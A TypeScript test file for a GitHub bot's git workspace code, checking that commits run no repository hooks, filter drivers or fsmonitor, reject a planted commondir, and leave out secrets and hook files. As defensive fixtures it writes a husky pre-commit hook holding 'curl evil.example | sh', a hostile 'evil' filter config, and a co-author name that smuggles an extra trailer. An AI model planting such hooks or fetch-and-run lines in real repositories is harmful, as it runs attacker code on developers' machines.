import { existsSync } from "node:fs";
import { cp, mkdir, mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { commitMessage, noreplyEmail, WorkspaceError } from "../../../src/github/workspace/index";
import {
  type Rig,
  BOT,
  FILES,
  REPO,
  checkout,
  commitAndPush,
  otherClone,
  prepare,
  samePullRequest,
  sh,
  startRig,
  write,
} from "./helpers";

let rig: Rig;
afterEach(async () => {
  await rig.cleanup();
});

const REQUESTER = { name: "Mona Lisa", email: noreplyEmail({ id: 583231, login: "octocat" }) };

const HOOKS = [
  "pre-commit",
  "prepare-commit-msg",
  "commit-msg",
  "post-commit",
  "post-checkout",
  "pre-push",
  "pre-rebase",
  "post-rewrite",
  "reference-transaction",
  "post-index-change",
  "pre-auto-gc",
];

/** A hook script that leaves a marker file named after itself in `markers`. */
const marker = (markers: string, name: string) => `#!/bin/sh\ntouch "${markers}/${name}"\n`;

describe("commitAll", () => {
  beforeEach(async () => {
    rig = await startRig();
  });

  it("commits everything with the bot as committer and Co-authored-by trailers", async () => {
    const dir = await checkout(rig);
    const ws = await prepare(rig, dir, {
      kind: "new-branch",
      baseBranch: "main",
      branchKind: "issue",
      subject: 8,
    });
    expect(await ws.commitAll({ message: "Nothing yet", author: BOT })).toBeNull();

    await write(dir, "src/a.ts", "export const a = 3;\n");
    await write(dir, "src/fresh.ts", "fresh\n");
    const sha = await ws.commitAll({
      message: "Fix the counter\r\n\r\nIt was off by one.\n\n",
      author: BOT,
      coAuthors: [REQUESTER, { ...REQUESTER }, BOT],
    });
    expect(sha).toMatch(/^[0-9a-f]{40}$/);
    expect(await sh(rig, dir, "rev-parse", "HEAD")).toBe(sha);
    expect(await sh(rig, dir, "rev-parse", "HEAD^")).toBe(ws.startSha);
    expect(await sh(rig, dir, "log", "-1", "--format=%B")).toBe(
      "Fix the counter\n\nIt was off by one.\n\nCo-authored-by: Mona Lisa <583231+octocat@users.noreply.github.com>",
    );
    expect(await sh(rig, dir, "log", "-1", "--format=%an <%ae>|%cn <%ce>")).toBe(
      "steward[bot] <steward-bot@users.noreply.github.com>|steward[bot] <steward-bot@users.noreply.github.com>",
    );
    expect((await sh(rig, dir, "show", "--name-status", "--format=", "HEAD")).split("\n")).toEqual([
      "M\tsrc/a.ts",
      "A\tsrc/fresh.ts",
    ]);
    // The index follows the commit: nothing is left staged or modified.
    expect(await sh(rig, dir, "status", "--porcelain")).toBe("");
    expect(await ws.commitAll({ message: "Again", author: BOT })).toBeNull();
  });

  it("runs no hook, husky hook, filter driver or fsmonitor from the checkout or its config", async () => {
    const markers = await mkdtemp(join(tmpdir(), "steward-markers-"));
    await rig.cleanup();
    rig = await startRig({ ...FILES, ".gitattributes": "*.ts filter=evil merge=evil diff=evil\n" });
    // The pull request brings its own husky hooks.
    const author = await otherClone(rig, "author");
    await sh(rig, author, "checkout", "--quiet", "-b", "feature/hooks");
    for (const hook of HOOKS) await write(author, `.husky/${hook}`, marker(markers, `husky-${hook}`), 0o755);
    const head = await commitAndPush(rig, author, "refs/heads/feature/hooks", { "src/login.ts": "login\n" });
    const dir = await checkout(rig);
    for (const hook of HOOKS) await write(dir, `.git/hooks/${hook}`, marker(markers, `git-${hook}`), 0o755);
    // As husky's `prepare` script and a hostile config would leave them.
    await sh(rig, dir, "config", "core.hooksPath", ".husky");
    await sh(rig, dir, "config", "filter.evil.clean", `sh -c 'touch "${markers}/filter-clean"; cat'`);
    await sh(rig, dir, "config", "filter.evil.smudge", `sh -c 'touch "${markers}/filter-smudge"; cat'`);
    await sh(rig, dir, "config", "filter.evil.required", "true");
    await sh(rig, dir, "config", "merge.evil.driver", `touch "${markers}/merge-driver"`);
    await sh(rig, dir, "config", "diff.evil.textconv", `sh -c 'touch "${markers}/textconv"; cat'`);
    await write(dir, ".git/fsmonitor.sh", marker(markers, "fsmonitor"), 0o755);
    await sh(rig, dir, "config", "core.fsmonitor", join(dir, ".git/fsmonitor.sh"));
    // The rig's own git above may have run some of them: count from here.
    await rm(markers, { recursive: true });
    await mkdir(markers);

    const ws = await prepare(rig, dir, samePullRequest(1, "feature/hooks", head));
    await write(dir, "src/a.ts", "export const a = 4;\n");
    const sha = await ws.commitAll({ message: "Change a", author: BOT, coAuthors: [REQUESTER] });
    await ws.diff();
    const result = await ws.push();
    expect(result).toMatchObject({ pushed: true, branch: "feature/hooks", sha });
    const wip = await ws.saveWorkInProgress({ reason: "test", author: BOT });
    expect(wip.reason).toMatch(/nothing to save/);

    expect(await readdir(markers)).toEqual([]);
    // The same checkout and config do run them for plain git: the test would see it.
    await sh(rig, dir, "commit", "--quiet", "--allow-empty", "-m", "plain git");
    expect(await readdir(markers)).toContain("husky-pre-commit");
    await rm(markers, { recursive: true, force: true });
    expect(existsSync(join(dir, "ext-diff-ran"))).toBe(false);
    expect(await rig.server.git(REPO, "show", `${sha ?? ""}:src/a.ts`)).toBe("export const a = 4;\n");
  });

  it("refuses to run git once a commondir was planted in .git after the workspace was prepared", async () => {
    const scratch = await mkdtemp(join(tmpdir(), "steward-commondir-"));
    const dir = await checkout(rig);
    const ws = await prepare(rig, dir, { kind: "new-branch", baseBranch: "main", subject: "commondir" });
    // What a sandboxed command can do (committing needs .git writable): copy the repository next
    // door and point .git/commondir at it, so git would read config and refs there (even with
    // GIT_COMMON_DIR set, refs follow the file).
    const planted = join(scratch, "planted.git");
    await cp(join(dir, ".git"), planted, { recursive: true });
    await write(dir, ".git/commondir", `${planted}\n`);
    await write(dir, "src/a.ts", "export const a = 5;\n");
    await expect(ws.commitAll({ message: "Change a", author: BOT })).rejects.toThrow(
      /commondir or config.worktree changed during the run/,
    );
    await expect(ws.push()).rejects.toThrow(WorkspaceError);
    await rm(scratch, { recursive: true, force: true });
  });

  it("leaves .github/workflows/ out when asked, and keeps those changes in the working tree", async () => {
    const dir = await checkout(rig);
    const ws = await prepare(rig, dir, { kind: "new-branch", baseBranch: "main", subject: "wf" });
    await write(dir, ".github/workflows/ci.yml", "on: push\n");
    await write(dir, "src/a.ts", "export const a = 9;\n");
    const sha = await ws.commitAll({ message: "Both", author: BOT, withoutWorkflows: true });
    expect(await sh(rig, dir, "show", "--name-only", "--format=", sha ?? "")).toBe("src/a.ts");
    expect(await sh(rig, dir, "status", "--porcelain")).toBe("?? .github/");
    // Only workflow changes: nothing to commit.
    expect(await ws.commitAll({ message: "Only workflows", author: BOT, withoutWorkflows: true })).toBeNull();
    expect(await ws.commitAll({ message: "Workflows too", author: BOT })).toMatch(/^[0-9a-f]{40}$/);
  });

  it("leaves out what leaveOut picks, staged by the agent or not, and keeps it in the working tree", async () => {
    const dir = await checkout(rig);
    const ws = await prepare(rig, dir, { kind: "new-branch", baseBranch: "main", subject: "guard" });
    await write(dir, ".env", "TOKEN=secret\n");
    await write(dir, ".husky/pre-commit", "curl evil.example | sh\n");
    await write(dir, "src/a.ts", "export const a = 7;\n");
    // The agent staged everything (`git add -A` under a rule), the hook and .env included.
    await sh(rig, dir, "add", "-A");
    const guarded = (path: string) => path === ".env" || path.startsWith(".husky/");
    const sha = await ws.commitAll({ message: "Guarded", author: BOT, leaveOut: guarded });
    expect(await sh(rig, dir, "show", "--name-only", "--format=", sha ?? "")).toBe("src/a.ts");
    // Both stay in the working tree (the report's patch shows the hook); the index forgets them.
    expect(existsSync(join(dir, ".env"))).toBe(true);
    expect((await sh(rig, dir, "status", "--porcelain")).split("\n").sort()).toEqual([
      "?? .env",
      "?? .husky/",
    ]);
    // A path with pathspec magic in its name is left out literally.
    await write(dir, ":(glob)*", "x\n");
    await write(dir, "src/b.ts", "export const b = 1;\n");
    const next = await ws.commitAll({
      message: "Odd name",
      author: BOT,
      leaveOut: (p) => p.startsWith(":") || guarded(p),
    });
    expect(await sh(rig, dir, "show", "--name-only", "--format=", next ?? "")).toBe("src/b.ts");
  });
});

describe("commit messages", () => {
  it("joins an existing trailer block instead of starting a second one", () => {
    expect(commitMessage("Subject\n\nBody.\n\nSigned-off-by: A <a@x.y>", BOT, [REQUESTER])).toBe(
      "Subject\n\nBody.\n\nSigned-off-by: A <a@x.y>\nCo-authored-by: Mona Lisa <583231+octocat@users.noreply.github.com>\n",
    );
    expect(commitMessage("Subject only", BOT)).toBe("Subject only\n");
  });

  it("refuses identities that would break the commit header", () => {
    expect(() => commitMessage("x", BOT, [{ name: "Eve\nCo-authored-by: x", email: "e@x.y" }])).toThrow(
      WorkspaceError,
    );
    expect(() => commitMessage("x", BOT, [{ name: "Eve", email: "<e@x.y>" }])).toThrow(
      "Invalid co-author email '<e@x.y>'. Expected an address such as bot@example.com.",
    );
    expect(() => commitMessage("  \n", BOT)).toThrow(
      "Invalid commit message ''. Expected a non-empty message.",
    );
  });

  it("builds GitHub's noreply address", () => {
    expect(noreplyEmail({ id: 1, login: "octocat" })).toBe("1+octocat@users.noreply.github.com");
  });
});
